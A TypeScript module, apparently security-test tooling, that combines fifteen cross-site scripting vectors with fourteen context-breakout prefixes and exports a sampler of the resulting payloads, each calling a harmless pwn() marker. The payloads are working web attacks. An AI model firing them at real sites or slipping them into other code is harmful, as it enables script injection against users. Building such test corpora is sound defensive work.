// Two hundred and more ways to smuggle a script into a text; each calls `pwn()` when it gets its way.
const vectors = [
  '<script>pwn()</script>',
  '<img src=x onerror=pwn()>',
  '<svg onload=pwn()>',
  '<iframe srcdoc="<script>parent.pwn()</script>">',
  '<details open ontoggle=pwn()>',
  '<video><source onerror=pwn()></video>',
  '<body onload=pwn()>',
  '<input autofocus onfocus=pwn()>',
  '<a href=javascript:pwn()>x</a>',
  '<math><mi xlink:href=javascript:pwn()>x',
  '<style onload=pwn()></style>',
  '<object data=javascript:pwn()>',
  '<form action=javascript:pwn()><button>x',
  '<meta http-equiv=refresh content=0;url=javascript:pwn()>',
  '<template><img src=x onerror=pwn()></template>',
];

/** What ends the place a text may stand in. */
const openings = [
  '',
  '">',
  "'>",
  '</title>',
  '</script>',
  '</textarea>',
  '</style>',
  '-->',
  ']]>',
  '</noscript>',
  '" onmouseover=pwn() x="',
  '&lt;img src=x onerror=pwn()&gt;',
  'javascript:pwn()//',
  '{{constructor.constructor("pwn()")()}}',
];

const all = openings.flatMap((opening) => vectors.map((vector) => `${opening}${vector}`));

/** A share of them in which every vector and every opening comes up. */
export const payloads = (count: number) => {
  const step = all.length / Math.min(count, all.length);
  return Array.from({ length: Math.min(count, all.length) }, (_, index) => {
    const opening = Math.floor((index * step) / vectors.length) % openings.length;
    return `${openings[opening]}${vectors[index % vectors.length]}`;
  });
};

/** The payload if it is short enough for the field; a cut one would be harmless and prove nothing. */
export const fitting = (payload: string, limit: number) => (payload.length <= limit ? payload : '<svg onload=pwn()>');
